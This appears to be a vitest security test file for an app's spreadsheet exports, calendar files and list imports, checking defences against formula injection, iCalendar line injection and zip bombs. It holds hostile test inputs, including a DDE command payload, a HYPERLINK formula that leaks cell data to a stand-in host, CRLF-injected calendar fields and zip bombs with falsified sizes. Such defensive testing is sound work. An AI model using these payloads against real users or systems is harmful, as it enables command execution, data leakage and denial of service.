import { csvLine } from '#domain/csv-line.ts';
import { policeDays } from '#guides/police-day.ts';
import { csvFile, xlsxFile } from '#ui/desk/import/write-sheet.ts';
import { readArchive, writeArchive } from '#ui/desk/import/zip-archive.ts';
import { readListFile } from '#ui/desk/import/read-list-file.ts';
import { calendarFile } from '#ui/field/police-day/calendar-file.ts';
import Papa from 'papaparse';
import { beforeAll, expect, test } from 'vitest';
import { someId } from '../field-server.ts';
import { anAttackWorld, type AttackWorld } from './attack-world.ts';
import { countCases } from './count-cases.ts';

const { expectFended } = countCases('formulas', 150);
let world: AttackWorld;
beforeAll(async () => {
  world = await anAttackWorld();
});

const formulas = [
  '=1+1',
  '=HYPERLINK("https://elsewhere.example?"&A1,"xem")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|x',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00A0=1+1',
  '\uFEFF=1+1',
  '\u200B=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
  '",=1+1',
  '"\r\n=1+1',
] as const;
/** What a spreadsheet would make of a cell's text. */
const isFormula = (cell: string) => /^[\s\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell);
const cellsOf = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { newline: '\r\n' }).data.flat();

test('[ATTACK] no text of a record leaves in a CSV as a formula, by the real export', async () => {
  const { alice, server, right } = world;
  const at = server.clock.ms;
  const homes = formulas.map((head, i) =>
    alice.mutation(100 + i, at, { kind: 'household', id: someId(), area: 'a1', set: { head, address: head, note: head } }),
  );
  const people = formulas.map((name, i) =>
    alice.mutation(200 + i, at, { kind: 'person', id: someId(), area: 'a1', set: { household: world.ids.household, name, note: name } }),
  );
  const { verdicts } = await alice.ship([...homes, ...people], { authored: 300 });
  expect(verdicts.filter(({ verdict }) => verdict !== 'accepted')).toEqual([]);
  for (const kind of ['household', 'person'] as const) {
    const answer = await right.post('areas/xa-a/export', { kind, format: 'csv', withNumbers: true });
    expect(answer.status).toBe(200);
    const cells = cellsOf(String(answer.body));
    expect(cells.length).toBeGreaterThan(formulas.length * 5);
    for (const cell of cells) expectFended(`${kind} export: ${JSON.stringify(cell)}`, isFormula(cell) ? cell : undefined);
  }
});

test('[ATTACK] no line and no sheet we write holds a formula, whatever its texts are', async () => {
  for (const formula of formulas) {
    for (const [what, csv] of [
      ['a line', csvLine([formula, 'b'])],
      ['an error sheet', await csvFile([[formula, 'b']]).text()],
    ] as const) {
      const cells = cellsOf(csv);
      expectFended(`${what}: ${JSON.stringify(formula)}`, cells.some(isFormula) || !cells.includes('b') ? csv : undefined);
    }
  }
  const blob = await xlsxFile('=1+1', [formulas, formulas.map((formula) => `</t></is></c><c><f>${formula}</f></c>`)]);
  const files = await readArchive(new Uint8Array(await blob.arrayBuffer()), 1e6, () => true);
  const sheet = new TextDecoder().decode(files?.get('xl/worksheets/sheet1.xml'));
  expect(sheet.match(/<c /g)?.length).toBe(formulas.length * 2);
  expectFended('a workbook', /<f[ >]|t="str"/.test(sheet) ? sheet : undefined);
});

test('[ATTACK] a calendar says what it says: no name of a village adds a line, an event or an alarm', async () => {
  const evil = 'Thôn A\r\nATTENDEE:mailto:x@elsewhere.example\nBEGIN:VALARM;x,y\\n';
  const entry = {
    person: 'p',
    guide: 'vneid-level-2',
    standing: 'to-go',
    name: evil,
    head: evil,
    address: evil,
    area: evil,
    areaName: evil,
  } as const;
  const words = { title: (people: number) => `${people}`, places: (names: readonly string[]) => names.join(', '), where: 'Công an' };
  const calendar = (await calendarFile(policeDays([{ ...entry, on: '2026-12-05' }]), 0, words)) ?? '';
  const names = calendar
    .replaceAll(/\r\n[ \t]/g, '')
    .split('\r\n')
    .map((line) => line.split(/[:;]/)[0]);
  expect(names.filter((name) => name === 'BEGIN')).toHaveLength(2);
  expectFended(
    'a calendar',
    /^(ATTENDEE|BEGIN:VALARM)/m.test(calendar.replaceAll('\r\n ', '')) || names.includes('ATTENDEE') ? calendar : undefined,
  );
});

test('[ATTACK] zip bombs, many files and lying sizes in an imported list are stopped at the bound', async () => {
  const [bound, zeros] = [10_000_000, new Uint8Array(40_000_000)];
  const parts = ['[Content_Types].xml', 'xl/workbook.xml', 'xl/worksheets/sheet1.xml'];
  const liar = await writeArchive(new Map([['xl/workbook.xml', zeros]]), true);
  const view = new DataView(liar.buffer);
  for (let at = 0; at + 4 < liar.length; at += 1) if (view.getUint32(at, true) === zeros.length) view.setUint32(at, 10, true);
  const bombs: readonly (readonly [string, Uint8Array<ArrayBuffer>])[] = [
    ['a bomb', await writeArchive(new Map([['xl/workbook.xml', zeros]]), true)],
    ['a bomb of many', await writeArchive(new Map(parts.map((part) => [part, zeros.subarray(0, 4_000_000)])), true)],
    ['a bomb that lies about its size', liar],
  ];
  for (const [what, bytes] of bombs) {
    expect(bytes.byteLength).toBeLessThan(200_000);
    expectFended(what, (await readArchive(bytes, bound, () => true)) === undefined ? undefined : 'unfolded');
    const read = await readListFile(Object.assign(new Blob([bytes]), { name: 'a.xlsx' }));
    expectFended(`${what} as a list`, read.ok ? 'read' : undefined);
  }
});
